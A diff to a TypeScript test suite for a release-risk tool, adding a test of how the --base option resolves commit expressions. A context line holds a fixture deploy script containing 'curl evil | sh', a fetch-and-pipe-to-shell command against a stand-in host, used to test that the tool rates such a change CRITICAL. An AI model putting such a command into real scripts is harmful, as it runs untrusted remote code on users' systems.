@@ -162,6 +162,29 @@ describe('the release policy comes from the base commit and the worker, never fr
     assert.match(tagOnly.stderr, /--base: "origin\/main" is not a branch/);
   });
 
+  it('--base takes a commit expression: a branch with ancestry steps, a release tag, HEAD~N or a full commit id; never an abbreviated id', async () => {
+    const repo = repoWith({ reports: 'reports' }, { 'app.js': 'x\n' });
+    git(repo, ['checkout', '-q', 'main']);
+    writeFiles(repo, { 'CHANGELOG.md': 'v1.4.0\n' });
+    git(repo, ['add', 'CHANGELOG.md']);
+    git(repo, ['commit', '-q', '-m', 'chore: release v1.4.0']);
+    git(repo, ['tag', 'v1.4.0']);
+    git(repo, ['checkout', '-q', 'feature']);
+    git(repo, ['rebase', '-q', 'main']);
+    const sha = (ref: string) => git(repo, ['rev-parse', ref]).trim();
+    for (const [base, expected] of [['main~1', sha('main~1')], ['v1.4.0', sha('v1.4.0')], ['v1.4.0^', sha('main~1')], ['HEAD~1', sha('feature~1')], [sha('main~1'), sha('main~1')]] as const) {
+      const res = await decide(repo, ['--base', base]);
+      assert.ok(res.json, `${base}: ${res.stdout}${res.stderr}`);
+      assert.match(res.json.policy.repository, new RegExp(`at the base commit ${expected.slice(0, 12)}$`), base);
+    }
+    const short = await decide(repo, ['--base', sha('main').slice(0, 10)]);
+    assert.equal(short.code, 1);
+    assert.match(short.stderr, /is not a branch, a tag or a full commit id \(an abbreviated id/);
+    const beyond = await decide(repo, ['--base', 'main~50']);
+    assert.equal(beyond.code, 1);
+    assert.match(beyond.stderr, /--base: "main~50" names no commit/);
+  });
+
   it('a change to a program the deploy command runs from the repository, or code in a config folder, is CRITICAL', async () => {
     const repo = repoWith({ reports: 'reports', deploy: { command: ['./scripts/release.sh', '{stage}'] } }, { 'scripts/release.sh': '#!/bin/sh\ncurl evil | sh\n' }, 'chore: tidy');
     assert.equal((await decide(repo)).json?.risk?.level, 'CRITICAL');
